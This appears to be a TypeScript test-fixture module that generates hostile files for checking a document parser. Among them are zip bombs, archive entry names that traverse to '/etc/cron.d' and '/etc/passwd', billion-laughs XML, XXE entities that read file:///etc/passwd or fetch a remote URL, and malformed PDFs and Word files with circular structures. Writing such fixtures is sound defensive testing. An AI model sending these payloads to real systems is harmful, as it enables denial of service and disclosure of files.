import { deflateRawSync, deflateSync } from 'node:zlib'
import { buildDoc } from './build-doc.ts'
import { paragraph, run } from './build-docx.ts'
import { buildEpub } from './build-epub.ts'
import { buildZip, type ZipFile } from './build-zip.ts'
import { trickyFiles } from './hostile-more.ts'
import {
  catalog,
  deep,
  document,
  docx,
  epub,
  file,
  type HostileFile,
  MIB,
  onePage,
  PROSE,
  page,
  pdfOf,
  pdfOfPage,
  pdfPage,
  stream,
  times,
} from './hostile-parts.ts'

const laughs = `<!DOCTYPE lolz [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('')}]>`
const quadratic = `<!DOCTYPE q [<!ENTITY a "${'ha'.repeat(50_000)}">]>`
const outside = (url: string): string =>
  `<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "${url}"><!ENTITY % all SYSTEM "${url}all.dtd">%all;]>`

/** Zeros that unpack to many times their size. */
const zeros = (megabytes: number): Uint8Array => Buffer.alloc(megabytes * MIB, 0x20)

/** A hundred files in the directory that share the same packed bytes. */
function overlapping(): Uint8Array {
  const shared: ZipFile = { name: 'word/document.xml', data: zeros(8) }
  const others = Array.from({ length: 100 }, (_, n): ZipFile => ({ name: `word/${n}.xml`, data: '', sameAs: 0 }))
  return buildZip([shared, ...others])
}

function nested(levels: number): Uint8Array {
  let inner: Uint8Array = buildZip([{ name: 'bomb.txt', data: zeros(16) }])
  for (let level = 0; level < levels; level += 1) {
    inner = buildZip(Array.from({ length: 8 }, (_, n) => ({ name: `${n}.zip`, data: inner, stored: true })))
  }
  return inner
}

/** A Word file whose chain of sectors leads back to its own start. */
function loopingChain(): Uint8Array {
  const file = Buffer.from(buildDoc({ paragraphs: [{ runs: [{ text: PROSE.repeat(100) }] }] }))
  const fat = 512 * (1 + file.readUInt32LE(76))
  for (let sector = 0; sector < 128; sector += 1) {
    const entry = fat + 4 * sector
    if (entry + 4 <= file.length && file.readUInt32LE(entry) < 0xfffffffa) file.writeUInt32LE(sector % 2, entry)
  }
  return file
}

/**
 * Malicious files.
 * @param url a URL that must not be requested
 */
export const hostileFiles = (url: string): HostileFile[] => [
  file('a zip bomb of one file', 'a.docx', () => docx({ 'word/document.xml': zeros(512) })),
  file('a zip bomb of many files that share their bytes', 'a.docx', overlapping),
  file('a zip bomb of archives in archives', 'a.epub', () => nested(3)),
  file('a zip bomb that lies about its size', 'a.docx', () =>
    docx({}, [{ name: 'word/styles.xml', data: '', packed: deflateRawSync(zeros(256)), unpackedSize: 100 }]),
  ),
  file('an archive of sixty thousand files', 'a.epub', () =>
    buildZip(Array.from({ length: 60_000 }, (_, n) => ({ name: `OEBPS/${n}.xhtml`, data: '', stored: true }))),
  ),
  file('names that lead out of an archive', 'a.docx', () =>
    docx({}, [
      { name: '../../../../etc/cron.d/x', data: 'x' },
      { name: '/etc/passwd', data: 'x' },
      { name: 'C:\\Windows\\x', data: 'x' },
    ]),
  ),
  file('a billion laughs in a document', 'a.docx', () => docx(document(paragraph('&a30;'), laughs))),
  file('a billion laughs in a book', 'a.epub', () =>
    buildEpub({
      parts: [
        {
          markup: `<?xml version="1.0"?>${laughs}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&a30; ${PROSE}</p></body></html>`,
        },
      ],
    }),
  ),
  file('a large entity that is used often', 'a.docx', () => docx(document(paragraph(times(20_000, '&a;')), quadratic))),
  file('entities that stand elsewhere, in a document', 'a.docx', () =>
    docx(document(paragraph(`${PROSE} &file; &web;`), outside(url))),
  ),
  file('entities that stand elsewhere, in a book', 'a.epub', () =>
    buildEpub({
      parts: [
        {
          markup: `<?xml version="1.0"?>${outside(url)}<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="${url}a.css"/></head><body><p>&file; &web; ${PROSE}</p><img src="${url}a.png"/></body></html>`,
        },
      ],
    }),
  ),
  file('a page that asks for others', 'a.html', () =>
    page(
      `<script src="${url}a.js"></script><img src="${url}a.png"><iframe src="${url}"></iframe>${times(5, `<p>${PROSE}</p>`)}`,
    ),
  ),
  file('a document of deep nesting', 'a.docx', () =>
    docx(document(times(deep, '<w:p><w:r>') + PROSE + times(deep, '</w:r></w:p>'))),
  ),
  file('tables in tables in a document', 'a.docx', () =>
    docx(document(times(deep, '<w:tbl><w:tr><w:tc>') + paragraph(PROSE) + times(deep, '</w:tc></w:tr></w:tbl>'))),
  ),
  file('a book of deep nesting', 'a.epub', () => epub(times(deep, '<div>') + PROSE + times(deep, '</div>'))),
  file('a page of deep nesting', 'a.html', () => page(times(deep, '<div>') + PROSE + times(deep, '</div>'))),
  file('lists in lists on a page', 'a.html', () => page(times(deep, '<ul><li>') + PROSE)),
  file('tables in tables on a page', 'a.html', () => page(times(20_000, '<table><tr><td>') + PROSE)),
  file('a page of a million tags', 'a.html', () => page(times(1_000_000, '<b>') + PROSE)),
  file('a page of a million paragraphs', 'a.html', () => page(times(300_000, '<p>Tides rise and fall.</p>'))),
  file('a page with a million attributes', 'a.html', () =>
    page(`<p ${Array.from({ length: 1_000_000 }, (_, n) => `a${n}="1"`).join(' ')}>${PROSE}</p>`),
  ),
  file('a page of one line', 'a.html', () => page(`<p>${times(100_000, `${PROSE} `)}</p>`)),
  file('a text of one line', 'a.txt', () => Buffer.from(times(100_000, 'tide '))),
  file('a text without a space', 'a.txt', () => Buffer.from(times(8 * MIB, 'a'))),
  file('a text of spaces', 'a.txt', () => Buffer.from(`${PROSE}${times(8 * MIB, ' ')}.`)),
  file('a text of marks', 'a.md', () => Buffer.from(`${times(300_000, '*_[`')}${PROSE}`)),
  file('a text of brackets', 'a.md', () => Buffer.from(`# ${times(150_000, '[')}${times(150_000, '![](')} ${PROSE}`)),
  file('a text of quotes in quotes', 'a.md', () => Buffer.from(times(2000, `${times(500, '> ')}x\n`))),
  file('a text of lines', 'a.txt', () => Buffer.from(times(1_000_000, 'a\n'))),
  file('a page of comments without end', 'a.html', () => page(times(500_000, '<!--'))),
  file('a page of style sheets', 'a.html', () =>
    page(`<style>${times(50_000, '.a .b > .c:not(.d){display:none}')}</style>${times(5, `<p class="c">${PROSE}</p>`)}`),
  ),
  file('a PDF that counts a billion pages', 'a.pdf', () =>
    pdfOf([
      catalog,
      '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>',
      pdfPage,
      stream(deflateSync('BT ET'), '/FlateDecode'),
    ]),
  ),
  file('a PDF whose tree of pages is a circle', 'a.pdf', () =>
    pdfOf([
      catalog,
      '<< /Type /Pages /Count 9 /Kids [3 0 R] >>',
      '<< /Type /Pages /Count 9 /Parent 2 0 R /Kids [2 0 R 3 0 R] >>',
    ]),
  ),
  file('a PDF of a page that unpacks to much', 'a.pdf', () =>
    pdfOfPage(stream(deflateSync(deflateSync(zeros(512))), '[/FlateDecode /FlateDecode]')),
  ),
  file('a PDF of a page with endless operators', 'a.pdf', () =>
    pdfOfPage(stream(deflateSync(times(3_000_000, 'q 1 0 0 1 0 0 cm ')), '/FlateDecode')),
  ),
  file('a PDF whose table leads to itself', 'a.pdf', () => {
    const bytes = Buffer.from(pdfOf([catalog, onePage, pdfPage], '/Root 1 0 R /Prev 0'))
    const start = bytes.lastIndexOf('xref\n', bytes.lastIndexOf('startxref'))
    return Buffer.from(bytes.toString('latin1').replace('/Prev 0', `/Prev ${start}`), 'latin1')
  }),
  file('a PDF of arrays in arrays', 'a.pdf', () => pdfOf([`<< /Type /Catalog /Pages ${times(deep, '[')} >>`])),
  file('a PDF whose bookmarks are a circle', 'a.pdf', () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>',
      onePage,
      pdfPage,
      stream(deflateSync('BT ET'), '/FlateDecode'),
      '<< /First 6 0 R /Last 6 0 R >>',
      '<< /Title (x) /Parent 5 0 R /Next 6 0 R /First 6 0 R /Dest [3 0 R /Fit] >>',
    ]),
  ),
  file('a Word file whose chains are circles', 'a.doc', loopingChain),
  file('a document of runs', 'a.docx', () => docx(document(`<w:p>${times(300_000, run('a '))}</w:p>`))),
  ...trickyFiles(url),
]
